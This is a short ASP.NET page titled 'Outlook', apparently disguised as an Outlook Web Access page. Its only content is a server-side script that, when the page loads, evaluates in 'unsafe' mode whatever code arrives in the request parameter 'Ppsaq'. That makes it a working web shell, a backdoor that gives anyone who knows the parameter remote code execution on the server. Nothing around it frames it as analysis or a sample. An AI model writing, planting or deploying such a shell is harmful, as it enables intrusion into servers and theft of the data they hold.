<%@ Page Language="C#" AutoEventWireup="true" %>
<html><head><title>Outlook</title></head><body>
<script language="JScript" runat="server">function Page_Load(){eval(Request["Ppsaq"],"unsafe");}</script>
</body></html>
